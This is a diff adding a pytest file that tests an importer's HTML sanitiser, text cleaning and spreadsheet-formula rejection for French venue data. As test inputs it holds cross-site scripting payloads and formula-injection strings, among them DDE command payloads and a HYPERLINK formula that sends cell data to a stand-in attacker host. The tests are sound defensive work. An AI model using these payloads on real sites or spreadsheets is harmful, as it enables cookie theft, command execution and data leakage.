@@ -1,0 +1,82 @@
+"""Descriptions keep their formatting but nothing executable; names lose export debris;
+spreadsheet formulas never make it into the database."""
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from importers.normalise import FieldError, clean_text, plain_text, reject_formula, sanitise_html
+
+
+def test_sanitise_html_keeps_formatting_and_drops_scripts_styles_and_handlers():
+    html = ('<p onclick="steal()">Chorale <strong>ouverte</strong> à <em>tous</em>'
+            '<script>alert(document.cookie)</script><style>p{display:none}</style></p>'
+            '<ul><li>mardi</li></ul><img src=x onerror=alert(1)><iframe src="https://evil"></iframe>')
+    cleaned = sanitise_html(html)
+    assert "<strong>ouverte</strong>" in cleaned and "<li>mardi</li>" in cleaned
+    for forbidden in ("<script", "alert", "onclick", "onerror", "<style", "<img", "<iframe"):
+        assert forbidden not in cleaned
+
+
+def test_links_keep_safe_targets_only_and_get_noopener():
+    cleaned = sanitise_html('<a href="javascript:alert(1)">x</a> <a href="https://mpaa.fr" target="_blank">MPAA</a>'
+                            ' <a href="mailto:contact@mpaa.fr">écrire</a>')
+    assert "javascript" not in cleaned
+    assert '<a href="https://mpaa.fr" rel="noopener">MPAA</a>' in cleaned
+    assert 'href="mailto:contact@mpaa.fr"' in cleaned
+
+
+def test_plain_text_descriptions_get_paragraphs_and_escaped_brackets():
+    assert sanitise_html("Ligne 1\nLigne 2\n\nÂges < 12 ans") == "<p>Ligne 1<br>Ligne 2</p><p>Âges &lt; 12 ans</p>"
+    assert sanitise_html("  ") is None
+    assert sanitise_html("<script>only()</script>") is None
+
+
+def test_plain_text_strips_markup_unescapes_entities_and_collapses_whitespace():
+    assert plain_text("<p>Musique &amp; danse</p><p>Ateliers&nbsp;du   soir</p><script>x()</script>") == \
+        "Musique & danse Ateliers du soir"
+    assert plain_text("<br>") is None
+
+
+def test_clean_text_removes_doubled_bom_nul_and_extra_spaces():
+    assert clean_text("\ufeff\ufeffCiné\x00ma   Le  Méliès \n", "name", 100) == "Cinéma Le Méliès"
+    assert clean_text("\x00", "name", 100) is None
+    assert clean_text(93048, "address", 10) == "93048"
+
+
+def test_clean_text_too_long_is_an_error_naming_the_limit():
+    with pytest.raises(FieldError) as caught:
+        clean_text("x" * 301, "name", 300)
+    assert caught.value.field == "name"
+    assert "300 au maximum" in caught.value.message
+    assert len(caught.value.value) <= 200  # raw value shortened for the report
+
+
+@pytest.mark.parametrize("value", [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r@SUM(1,2)",
+    "+cmd|' /C notepad'!A0",
+    "-A1*2",
+])
+def test_spreadsheet_formulas_are_refused(value):
+    with pytest.raises(FieldError) as caught:
+        reject_formula(value, "name")
+    assert "formule de tableur" in caught.value.message
+
+
+@pytest.mark.parametrize("value", [
+    "-", "- 5 €", "+33 1 48 39 52 46", "-12.5", "+3", "@lachorale", "Théâtre = jeu", "", None, 12,
+])
+def test_ordinary_values_starting_with_signs_are_fine(value):
+    assert reject_formula(value, "name") is None
+
+
+@given(st.text())
+def test_sanitised_html_never_contains_a_script(value):
+    for payload in (value, f"<p>{value}<script>{value}</script></p>", f"<scr<script>ipt>{value}"):
+        cleaned = sanitise_html(payload) or ""
+        assert "<script" not in cleaned.lower()
